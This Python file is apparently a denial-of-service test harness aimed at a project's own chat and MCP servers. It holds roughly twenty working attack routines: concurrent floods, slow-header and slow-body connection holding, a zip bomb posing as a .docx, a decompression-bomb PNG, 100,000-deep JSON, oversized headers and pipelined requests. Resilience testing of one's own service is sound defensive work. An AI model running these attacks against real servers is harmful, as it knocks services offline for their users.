"""Ways to stop the servers, each of one user or of nobody: floods, slow clients, costly bodies."""

import asyncio
import base64
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Awaitable, Callable, Iterable
from itertools import repeat

import httpx2
from attack_tools import Target, ask, connection, entries, head, login, mcp_head, question, raw

FLOODER = "flooder"
# Longer than a head or a body may take.
PATIENCE = 18.0
MANY = httpx2.Limits(max_connections=None, max_keepalive_connections=None)
Attack = Callable[[Target, float], Awaitable[None]]
ATTACKS: dict[str, Attack] = {}


def attack(name: str) -> Callable[[Attack], Attack]:
    """Names an attack: it runs for about so many seconds."""

    def known(function: Attack) -> Attack:
        ATTACKS[name] = function
        return function

    return known


async def flood(
    target: Target,
    base: str,
    seconds: float,
    at_once: int,
    one: Callable[[httpx2.AsyncClient], Awaitable[int]],
) -> None:
    """Do one thing again and again, so many at once."""
    until = asyncio.get_running_loop().time() + seconds

    async def again(http: httpx2.AsyncClient) -> None:
        while asyncio.get_running_loop().time() < until:
            try:
                target.note(await one(http))
            except httpx2.HTTPError as error:
                target.note(type(error).__name__)

    async with httpx2.AsyncClient(base_url=base, timeout=60, limits=MANY) as http:
        await asyncio.gather(*(again(http) for _ in range(at_once)))


async def hold(target: Target, port: int, count: int, seconds: float, sent: bytes, drip: bytes) -> None:
    """Open so many connections, send the beginning and a drip a second; note who is there at the end."""

    async def one() -> None:
        try:
            async with connection(port) as (reader, writer):
                writer.write(sent)
                for _ in range(int(seconds)):
                    await asyncio.sleep(1)
                    writer.write(drip)
                    await writer.drain()
                try:
                    async with asyncio.timeout(0.1):
                        got = await reader.read(200)
                    target.note(got.split()[1].decode() if got.startswith(b"HTTP") else "closed")
                except TimeoutError:
                    target.note("held")
        except OSError:
            target.note("closed")

    await asyncio.gather(*(one() for _ in range(count)))


async def send_all(target: Target, requests: Iterable[tuple[int, bytes]]) -> None:
    """Send raw requests at once."""
    await asyncio.gather(*(raw(target, port, sent) for port, sent in requests))


async def posted(target: Target, path: str, body: bytes, kind: str, times: int, at_once: int = 4) -> None:
    """Send a body several times."""
    left = iter(range(times))
    headers = login(FLOODER) | {"content-type": kind}

    async def again(http: httpx2.AsyncClient) -> None:
        for _ in left:
            try:
                target.note((await http.post(path, content=body, headers=headers)).status_code)
            except httpx2.HTTPError as error:
                target.note(type(error).__name__)

    async with httpx2.AsyncClient(base_url=target.chat, timeout=90, limits=MANY) as http:
        await asyncio.gather(*(again(http) for _ in range(at_once)))


def form(name: str, data: bytes) -> bytes:
    """A form with one file."""
    lines = f'--X\r\ncontent-disposition: form-data; name="file"; filename="{name}"\r\n\r\n'
    return lines.encode() + data + b"\r\n--X--\r\n"


FORM = "multipart/form-data; boundary=X"


@attack("300 questions whose answers nobody reads")
async def unread_answers(target: Target, seconds: float) -> None:
    body = json.dumps(question("SLOW 100")).encode()
    await hold(target, target.chat_port, 300, seconds, head("/chatkit", FLOODER, len(body)) + body, b"")


@attack("questions without a pause, 50 at once")
async def questions(target: Target, seconds: float) -> None:
    async def one(http: httpx2.AsyncClient) -> int:
        return (await ask(http, FLOODER, "question of a flooder"))[0]

    await flood(target, target.chat, seconds, 50, one)


@attack("lists of threads without a pause, 50 at once")
async def lists(target: Target, seconds: float) -> None:
    wanted = {"type": "threads.list", "params": {"limit": 9999}}

    async def one(http: httpx2.AsyncClient) -> int:
        return (await http.post("/chatkit", json=wanted, headers=login(FLOODER))).status_code

    await flood(target, target.chat, seconds, 50, one)


@attack("searches of the knowledge view, 50 at once")
async def knowledge_searches(target: Target, seconds: float) -> None:
    async def one(http: httpx2.AsyncClient) -> int:
        wanted = {"query": "What does the setting change?"}
        return (await http.post("/knowledge/search", json=wanted, headers=login(FLOODER))).status_code

    await flood(target, target.chat, seconds, 50, one)


@attack("wrong logins, 50 at once")
async def wrong_logins(target: Target, seconds: float) -> None:
    async def one(http: httpx2.AsyncClient) -> int:
        return (await http.get("/knowledge/documents", headers={"authorization": "Bearer no"})).status_code

    await flood(target, target.chat, seconds, 50, one)


@attack("300 heads, a byte a second")
async def slow_heads(target: Target, seconds: float) -> None:
    await hold(target, target.chat_port, 300, PATIENCE, b"POST /chatkit HTTP/1.1\r\nhost: loc", b"a")


@attack("300 heads to the MCP server, a byte a second")
async def slow_heads_of_mcp(target: Target, seconds: float) -> None:
    await hold(target, target.mcp_port, 300, PATIENCE, b"POST /mcp HTTP/1.1\r\nhost: loc", b"a")


@attack("300 bodies, a byte a second")
async def slow_bodies(target: Target, seconds: float) -> None:
    await hold(target, target.chat_port, 300, PATIENCE, head("/chatkit", FLOODER, 100_000), b"{")


@attack("1200 connections that say nothing")
async def silent_connections(target: Target, seconds: float) -> None:
    await hold(target, target.chat_port, 1200, PATIENCE, b"", b"")


@attack("a ZIP of 200 000 entries as .docx, 8 times")
async def zip_entries(target: Target, seconds: float) -> None:
    await posted(target, "/attachments", form("a.docx", entries(200_000)), FORM, 8)


@attack("a form of 10 MB of line ends, 8 times")
async def form_of_line_ends(target: Target, seconds: float) -> None:
    await posted(target, "/attachments", form("a.txt", b"\r\n--" * 2_500_000), FORM, 8)


@attack("a form of 10 MB of beginnings of its boundary, 8 times")
async def form_of_boundaries(target: Target, seconds: float) -> None:
    await posted(target, "/attachments", form("a.txt", b"\r\n--Y" * 2_000_000), FORM, 8)


@attack("pictures of 40 000 × 40 000 pixels, 20 times")
async def pictures(target: Target, seconds: float) -> None:
    rows = zlib.compress(b"\0" * 1_000_000)
    size = struct.pack(">2I5B", 40_000, 40_000, 8, 0, 0, 0, 0)
    parts = ((b"IHDR", size), (b"IDAT", rows), (b"IEND", b""))
    chunks = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )
    await posted(target, "/attachments", b"\x89PNG\r\n\x1a\n" + b"".join(chunks), "image/png", 20)


@attack("a .docx that unpacks to 1 GB, 4 times")
async def docx_bomb(target: Target, seconds: float) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        with file.open("word/document.xml", "w", force_zip64=True) as part:
            for block in repeat(b"<w:p>" * 200_000, 100):
                part.write(block)
    await posted(target, "/attachments", form("a.docx", packed.getvalue()), FORM, 4)


@attack("dictation of 33 MB as JSON, 6 times")
async def dictation(target: Target, seconds: float) -> None:
    sound = base64.b64encode(b"RIFF\0\0\0\0WAVE" + bytes(24_900_000)).decode()
    wanted = {"type": "input.transcribe", "params": {"audio_base64": sound, "mime_type": "audio/wav"}}
    await posted(target, "/chatkit", json.dumps(wanted).encode(), "application/json", 6, at_once=3)


@attack("JSON 100 000 deep, 20 times on either server")
async def deep_json(target: Target, seconds: float) -> None:
    body = b'{"type":"threads.create","params":' * 1 + b"[" * 100_000 + b"]" * 100_000 + b"}"
    mcp = b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":' + body[33:]
    await posted(target, "/chatkit", body, "application/json", 20)
    await send_all(target, ((target.mcp_port, mcp_head(target, len(mcp)) + mcp) for _ in range(20)))


@attack("questions of 250 kB of brackets, spaces and marks")
async def long_questions(target: Target, seconds: float) -> None:
    for text in ("[" * 250_000, " " * 249_999 + "a", "*_`" * 80_000, "a " * 120_000, "\u0301" * 80_000):
        async with httpx2.AsyncClient(base_url=target.chat, timeout=90) as http:
            target.note((await ask(http, FLOODER, f"question {text}"))[0])


@attack("3000 headers, an address of 15 kB, a head of 60 kB, 50 times each")
async def large_heads(target: Target, seconds: float) -> None:
    heads = (
        b"GET / HTTP/1.1\r\nhost: localhost\r\n" + b"a:b\r\n" * 3000 + b"\r\n",
        b"GET /" + b"a" * 15_000 + b" HTTP/1.1\r\nhost: localhost\r\n\r\n",
        b"GET / HTTP/1.1\r\nhost: localhost\r\na: " + b"b" * 60_000 + b"\r\n\r\n",
    )
    ports = (target.chat_port, target.mcp_port)
    await send_all(target, ((port, sent) for sent in heads for port in ports for _ in range(50)))


@attack("100 connections with 200 requests each, sent at once")
async def pipelines(target: Target, seconds: float) -> None:
    many = b"GET /config.json HTTP/1.1\r\nhost: localhost\r\n\r\n" * 200
    await send_all(target, ((target.chat_port, many) for _ in range(100)))


@attack("bodies without an end after the answer")
async def endless_bodies(target: Target, seconds: float) -> None:
    async def one() -> None:
        try:
            async with asyncio.timeout(seconds), connection(target.chat_port) as (_, writer):
                writer.write(head("/health", FLOODER, 10**12, method="GET"))
                while True:
                    writer.write(b"x" * 65_536)
                    await writer.drain()
        except TimeoutError:
            target.note("held")
        except OSError:
            target.note("closed")

    await asyncio.gather(*(one() for _ in range(10)))


@attack("40 files of 10 MB in a thread, then a small question")
async def many_files(target: Target, seconds: float) -> None:
    async with httpx2.AsyncClient(base_url=target.chat, timeout=90) as http:
        user, thread = login("collector"), None
        for _ in range(4):
            ids: list[str] = []
            for _ in range(10):
                data = {"file": ("a.txt", b"word " * 2_000_000)}
                sent = await http.post("/attachments", files=data, headers=user)
                target.note(sent.status_code)
                ids += [sent.json()["id"]] if sent.status_code == 200 else []
            answer = await http.post("/chatkit", json=question("question", thread, tuple(ids)), headers=user)
            target.note(answer.status_code)
            thread = thread or _thread_in(answer.text)
        target.note((await ask(http, "collector", "question", thread))[0])


@attack("downloads of 10 MB that nobody reads, 40 at once")
async def unread_downloads(target: Target, seconds: float) -> None:
    async with httpx2.AsyncClient(base_url=target.chat, timeout=90) as http:
        data = {"file": ("a.txt", b"word " * 2_000_000)}
        sent = await http.post("/attachments", files=data, headers=login(FLOODER))
    target.note(sent.status_code)
    if sent.status_code == 200:
        wanted = head(f"/attachments/{sent.json()['id']}", FLOODER, 0, method="GET")
        await hold(target, target.chat_port, 40, seconds, wanted, b"")


def _thread_in(events: str) -> str | None:
    line = next((line for line in events.splitlines() if '"thread.created"' in line[:60]), None)
    return None if line is None else str(json.loads(line[6:])["thread"]["id"])
